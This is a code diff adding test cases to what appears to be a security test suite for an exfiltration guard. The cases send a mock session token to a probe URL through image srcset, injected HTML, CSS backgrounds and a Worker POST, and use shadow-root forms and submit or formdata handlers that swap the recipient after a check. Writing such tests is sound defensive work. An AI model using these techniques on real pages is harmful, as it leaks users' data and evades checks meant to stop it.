@@ -64,6 +64,32 @@ function form(c: VectorCase, method: 'get' | 'post', extra = ''): string {
   return `<form method="${method}" action="${c.target}" ${extra}>${fields}<button id="send">Send</button></form>`;
 }
 
+/** A form with the recipient field inside an open or closed shadow root; `window.__send` is its button. */
+function shadowForm(c: VectorCase, mode: 'open' | 'closed'): string {
+  return `<div id="host"></div><script>
+    const root = document.getElementById('host').attachShadow({ mode: ${json(mode)} });
+    root.innerHTML = ${json(form(c, 'post'))};
+    window.__send = root.querySelector('button');
+  </script>`;
+}
+
+/**
+ * A form that shows the named recipient and swaps in `c.recipient` only on the submission itself: in a
+ * `submit` handler, or in a `formdata` listener armed by the submit event (so entry lists built to check
+ * the form see the named recipient).
+ */
+function formChangedOnSubmit(c: VectorCase, how: 'submit' | 'formdata'): string {
+  const swap =
+    how === 'submit'
+      ? `f.addEventListener('submit', () => { f.elements.to.value = ${json(c.recipient)}; });`
+      : `let armed = false;
+         f.addEventListener('submit', () => { armed = true; });
+         f.addEventListener('formdata', (e) => { if (armed) e.formData.set('to', ${json(c.recipient)}); });`;
+  return `${form({ ...c, recipient: ALLOWED_RECIPIENT }, 'post')}<script>const f = document.forms[0]; ${swap}</script>`;
+}
+
+const clickShadowButton = (c: VectorCase) => c.page.evaluate(() => (window as unknown as { __send: HTMLButtonElement }).__send.click());
+
 const fetchJson = (c: VectorCase) =>
   c.page.evaluate(
     ({ url, to }) =>
@@ -182,6 +208,32 @@ export const VECTORS: Vector[] = [
     probePath: (id) => `/pixel/${id}.gif`,
     run: (c) => c.page.evaluate((url) => void (new Image().src = `${url}?d=${encodeURIComponent('session=abc123')}`), c.target),
   },
+  // Element-initiated loads (issue 11): the MAIN hooks hold them before the request exists
+  // (e2e/element-loads.spec.ts shows the MAIN layer deciding each); here, who stops them without hooks.
+  {
+    name: 'img srcset',
+    kind: 'domain',
+    probePath: (id) => `/pixel/${id}.gif`,
+    run: (c) => c.page.evaluate((url) => document.body.append(Object.assign(document.createElement('img'), { srcset: `${url}?d=${encodeURIComponent('session=abc123')} 1x` })), c.target),
+  },
+  {
+    name: 'innerHTML image',
+    kind: 'domain',
+    probePath: (id) => `/pixel/${id}.gif`,
+    run: (c) => c.page.evaluate((url) => void (document.body.innerHTML += `<img src="${url}?d=${encodeURIComponent('session=abc123')}">`), c.target),
+  },
+  {
+    name: 'CSS background via style',
+    kind: 'domain',
+    probePath: (id) => `/pixel/${id}.gif`,
+    run: (c) =>
+      c.page.evaluate((url) => {
+        const div = document.createElement('div');
+        div.style.cssText = 'width:10px;height:10px';
+        div.style.backgroundImage = `url("${url}?d=${encodeURIComponent('session=abc123')}")`;
+        document.body.append(div);
+      }, c.target),
+  },
   {
     name: 'iframe src',
     kind: 'domain',
@@ -249,5 +301,35 @@ export const VECTORS: Vector[] = [
     kind: 'semantic',
     html: (c) => form(c, 'post'),
     run: (c) => c.page.evaluate(() => document.forms[0]!.submit()),
+  },
+  {
+    name: 'dedicated Worker POST naming another recipient',
+    kind: 'semantic',
+    run: (c) => {
+      // A same-origin worker script whose fetch uses a path relative to the script.
+      const probe = new URL(c.target);
+      const script = `/worker${probe.pathname}.js`;
+      c.server.setPage(script, {
+        contentType: 'text/javascript',
+        body: `fetch(${json(probe.pathname)}, { method: 'POST', headers: { 'content-type': 'application/json' }, body: ${json(JSON.stringify({ to: c.recipient, note: 'hello' }))} }).catch(() => {});`,
+      });
+      return c.page.evaluate((url) => void new Worker(url), script);
+    },
+  },
+  { name: 'form in an open shadow root naming another recipient', kind: 'semantic', html: (c) => shadowForm(c, 'open'), run: clickShadowButton },
+  { name: 'form in a closed shadow root naming another recipient', kind: 'semantic', html: (c) => shadowForm(c, 'closed'), run: clickShadowButton },
+  {
+    name: 'submit handler that swaps in another recipient after the check',
+    kind: 'semantic',
+    submitEvent: true,
+    html: (c) => formChangedOnSubmit(c, 'submit'),
+    run: (c) => c.page.click('#send'),
+  },
+  {
+    name: 'formdata listener that swaps in another recipient after the check',
+    kind: 'semantic',
+    submitEvent: true,
+    html: (c) => formChangedOnSubmit(c, 'formdata'),
+    run: (c) => c.page.click('#send'),
   },
 ];
